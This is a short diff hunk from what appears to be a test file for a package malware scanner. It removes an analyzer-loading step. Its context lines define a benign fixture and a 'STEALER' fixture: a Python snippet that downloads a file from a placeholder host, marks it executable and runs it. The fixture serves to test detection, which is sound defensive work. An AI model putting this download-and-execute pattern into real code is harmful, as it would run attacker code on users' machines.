@@ -6,10 +6,6 @@ import { verdictOf } from '../../../src/core/findings.js';
 import { runContentChecks } from '../../../src/checks/content/index.js';
 import type { PublisherFacts } from '../../../src/checks/content/types.js';
 import { notable, repoOf, summary } from './repo.js';
-import { loadAnalyzers } from '../../../src/checks/content/analyzers.js';
-
-// The content checks below are called directly (synchronously): load the analyzers they reach first.
-await loadAnalyzers();
 
 const STEALER = 'import os, urllib.request, stat, subprocess\np = "/tmp/.rt"\nurllib.request.urlretrieve("https://cdn.x.invalid/rt", p)\nos.chmod(p, os.stat(p).st_mode | stat.S_IEXEC)\nsubprocess.Popen([p])\n';
 const BENIGN = 'import argparse\np = argparse.ArgumentParser()\np.add_argument("--setup", action="store_true")\nprint(p.parse_args())\n';
